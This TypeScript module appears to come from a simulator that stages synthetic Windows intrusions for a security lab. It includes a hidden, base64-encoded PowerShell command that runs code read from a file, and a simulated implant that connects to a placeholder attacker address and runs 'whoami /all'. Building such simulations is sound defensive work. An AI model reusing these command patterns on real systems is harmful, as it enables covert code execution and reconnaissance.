import type { Desk, Stage } from '../fleet/stage.ts'
import { POWERSHELL, SYSTEM32 } from '../fleet/ways.ts'
import { later } from '../host/clock.ts'
import type { Process, Session } from '../host/host.ts'
import type { Cause } from '../host/task-service.ts'
import type { LabAction, LabTask } from '../host/task-xml.ts'
import type { Scene } from './attack.ts'

/** Where the attacker listens. Reserved for documentation: RFC 5737. */
export const ATTACKER = '198.51.100.23'
export const HOUR = 3_600_000
export const DAY = 24 * HOUR

export const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64')
export const asSystem = { id: 'Author', userId: 'S-1-5-18', highest: false } as const

export const exec = (command: string, args: string, image: string): LabAction => ({
  kind: 'exec',
  command,
  arguments: args,
  image,
})
export const powershell = (args: string): LabAction => exec('powershell.exe', args, POWERSHELL)
export const cmd = (args: string): LabAction => exec('cmd.exe', args, `${SYSTEM32}cmd.exe`)

/** A task without author and date, which whoever registers it fills in or leaves out. */
export type Draft = Omit<LabTask, 'author' | 'date'>
export const unsigned = (draft: Draft): LabTask => ({ ...draft, author: null, date: null })

/** Does something on a stage a while from now. */
export function after(stage: Stage, milliseconds: number, act: () => void): void {
  stage.agenda.plan(later(stage.host.now, milliseconds), act)
}

/** Whoever is at the desk of this host; where nobody is, its administrator comes over remote desktop. */
export function deskOf(stage: Stage, { admin, random }: Scene): Desk {
  const there = stage.desks.at(-1)
  if (there) return there
  return { user: admin, ...stage.host.logOnRemotely(admin, `198.18.201.${random.whole(2, 250)}`) }
}

/** Begins the attack with a shell on the target, as whoever is at its desk. */
export function withShell(scene: Scene, shell: 'cmd' | 'powershell', act: (shell: Process, desk: Desk) => void): void {
  const { target } = scene
  target.agenda.plan(scene.start, () => {
    const desk = deskOf(target, scene)
    const image = shell === 'cmd' ? `${SYSTEM32}cmd.exe` : POWERSHELL
    const commandLine = shell === 'cmd' ? '"C:\\Windows\\system32\\cmd.exe"' : `"${POWERSHELL}" -nop -w hidden`
    const process = target.host.start(desk.explorer, image, commandLine)
    target.host.openConsole(process)
    target.host.wait(4000)
    act(process, desk)
    after(target, 240_000, () => target.host.exit(process))
  })
}

/** A run of a task as SYSTEM, or in a session; `act` is what its program does before it ends. */
export function runs(
  stage: Stage,
  path: string,
  cause: Cause,
  session: Session = stage.host.system,
  act: (process: Process) => void = () => {},
): void {
  if (!stage.tasks.has(path)) return
  const { process, finish } = stage.tasks.run(path, cause, session)
  stage.host.openConsole(process)
  stage.host.wait(700)
  act(process)
  after(stage, 6000, () => finish())
}

/** An implant calls home and looks around. */
export function implant(stage: Stage, process: Process): void {
  const { host } = stage
  host.connect(process, ATTACKER, 443)
  host.wait(900)
  host.runConsole(process, `${SYSTEM32}whoami.exe`, '"C:\\Windows\\system32\\whoami.exe" /all', 120)
}

export const implantAction = powershell(`-w hidden -nop -enc ${encoded('IEX (gc C:\\ProgramData\\state.dat -Raw)')}`)
